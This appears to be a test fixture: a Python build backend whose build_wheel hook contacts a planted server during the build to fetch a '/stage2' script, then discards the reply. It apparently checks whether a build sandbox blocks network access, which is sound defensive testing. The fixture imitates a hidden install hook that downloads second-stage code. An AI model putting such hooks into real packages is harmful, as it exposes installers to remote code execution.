"""Asks a server for a script that it would go on to run.

What comes back, if anything does, is thrown away here.
"""

import http.client

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("fetch"):
        server = kit.plant("server")
        connection = http.client.HTTPConnection(server.address, server.port, timeout=1)
        connection.request("GET", f"/stage2?for={kit.nonce}")
        connection.getresponse().read()
    return kit.wheel(wheel_directory)
